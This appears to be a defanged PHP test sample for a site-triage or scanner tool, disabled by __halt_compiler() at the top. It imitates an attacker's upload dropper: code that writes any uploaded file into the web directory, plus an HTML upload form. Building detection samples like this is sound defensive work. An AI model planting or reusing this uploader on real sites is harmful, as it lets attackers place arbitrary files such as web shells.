<?php __halt_compiler();
/* Site Triage test sample — DEFANGED: __halt_compiler() above stops PHP before any of this runs.
   Imitates the small upload form attackers drop in the uploads folder. */
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); echo 'ok'; }
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="Upload"></form>
